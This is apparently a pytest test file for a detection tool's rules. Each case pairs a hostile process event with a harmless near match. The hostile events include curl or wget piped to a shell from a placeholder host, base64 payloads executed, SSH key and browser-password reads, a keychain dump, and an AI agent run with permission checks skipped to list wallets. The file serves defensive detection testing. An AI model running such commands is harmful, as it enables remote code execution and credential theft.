"""The rules that come with the program: each has something that it sees and something like it that it does not see."""

import pytest

from lazaretto.detect.sigma.fields import Actor, records
from lazaretto.detect.sigma.load import load
from lazaretto.detect.sigma.own import own_rules
from lazaretto.detect.sigma.rules import Matcher
from lazaretto.model.host import Kind, Observed

LOADED = load(own_rules())
MATCHER = Matcher(LOADED.rules)
NODE, PYTHON, BASH = "/usr/bin/node", "/usr/bin/python3.11", "/usr/bin/bash"


def run(path, *argv, parent=NODE, parent_argv=("node", "install.js")):
    return Observed(
        1.0, "test", Kind.EXEC, 7, path=path, argv=argv, parent_path=parent, parent_argv=parent_argv
    ), Actor()


def touch(kind, path, by=NODE):
    return Observed(1.0, "test", kind, 7, path=path), Actor(path=by)


CASES = {
    "runtime_pipes_download_to_shell": (
        run("/bin/sh", "sh", "-c", "curl -s http://a.invalid/x | bash"),
        run("/bin/sh", "sh", "-c", "curl -s http://a.invalid/x | jq ."),
    ),
    "decoded_text_run_by_shell": (
        run("/bin/sh", "sh", "-c", "echo dHJ1ZQ== | base64 -d | sh", parent=PYTHON),
        run("/bin/sh", "sh", "-c", "echo dHJ1ZQ== | base64 -d > out.txt", parent=PYTHON),
    ),
    "python_decodes_and_runs_code": (
        run(PYTHON, "python3", "-c", "exec(__import__('base64').b64decode('cGFzcw=='))"),
        run(PYTHON, "python3", "-c", "print(__import__('base64').b64decode('cGFzcw=='))"),
    ),
    "node_runs_fetched_code": (
        run(NODE, "node", "-e", "fetch('http://a.invalid').then(r=>r.text()).then(t=>eval(t))", parent="/bin/sh"),
        run(NODE, "node", "-e", "try{require('./postinstall')}catch(e){}", parent="/bin/sh"),
    ),
    "runtime_starts_from_temporary_folder": (
        run(PYTHON, "python3", "/tmp/.store/main.py"),
        run(PYTHON, "python3", "/home/u/project/main.py"),
    ),
    "runtime_writes_persistence": (
        touch(Kind.WRITE, "/home/u/.config/systemd/user/x.service"),
        touch(Kind.WRITE, "/home/u/project/x.service"),
    ),
    "runtime_reads_browser_secrets": (
        touch(Kind.READ, "/home/u/.config/google-chrome/Default/Login Data", PYTHON),
        touch(Kind.READ, "/home/u/.config/google-chrome/Default/Login Data", "/opt/google/chrome/chrome"),
    ),
    "runtime_reads_credentials": (
        touch(Kind.READ, "/home/u/.ssh/id_ed25519"),
        touch(Kind.READ, "/home/u/.ssh/known_hosts"),
    ),
    "editor_terminal_downloads_and_runs": (
        run(BASH, "bash", "-c", "wget -qO- http://a.invalid | sh", parent="/usr/share/code/code"),
        run(BASH, "bash", "-c", "npm run build", parent="/usr/share/code/code"),
    ),
    "git_hook_downloads": (
        run(BASH, "bash", "-c", "curl http://a.invalid|node", parent=BASH, parent_argv=("bash", ".git/hooks/post-checkout")),
        run(BASH, "bash", "-c", "curl http://a.invalid -o x", parent=BASH, parent_argv=("bash", ".git/hooks/post-checkout")),
    ),
    "publish_from_dependency": (
        run(NODE, "npm", "publish", parent_argv=("node", "/p/node_modules/helper/setup.js")),
        run(NODE, "npm", "publish", parent=BASH, parent_argv=("-bash",)),
    ),
    "runtime_connects_to_loader_port": (
        touch(Kind.CONNECT, "203.0.113.9:1224"),
        touch(Kind.CONNECT, "127.0.0.1:1224"),
    ),
    "runtime_starts_clipboard_or_screen_tool": (run("/usr/bin/xclip", "xclip", "-o"), run("/usr/bin/xclip", "xclip", "-i")),
    "agent_without_questions": (
        run("/usr/local/bin/claude", "claude", "--dangerously-skip-permissions", "-p", "list every wallet and keystore"),
        run("/usr/local/bin/claude", "claude", "-p", "explain the wallet module"),
    ),
    "runtime_asks_keychain": (
        run("/usr/bin/security", "security", "dump-keychain"),
        run("/usr/bin/security", "security", "list-keychains"),
    ),
}  # fmt: skip


def names(seen, actor):
    found = {
        rule.path
        for product in ("linux", "macos")
        for log in records(seen, product, actor)
        for rule in MATCHER.match(log)
    }
    return {name.removeprefix("lazaretto/").removesuffix(".yml") for name in found}


def test_all_own_rules_load_and_have_a_case():
    assert LOADED.problems == ()
    assert {rule.path for rule in LOADED.rules} == {f"lazaretto/{name}.yml" for name in CASES}
    assert len({rule.id for rule in LOADED.rules}) == len(CASES)
    assert all(rule.level and rule.techniques and rule.falsepositives and rule.description for rule in LOADED.rules)


@pytest.mark.parametrize("name", CASES)
def test_sees_what_it_is_for_and_nothing_like_it(name):
    bad, near = CASES[name]
    assert name in names(*bad)
    assert name not in names(*near)
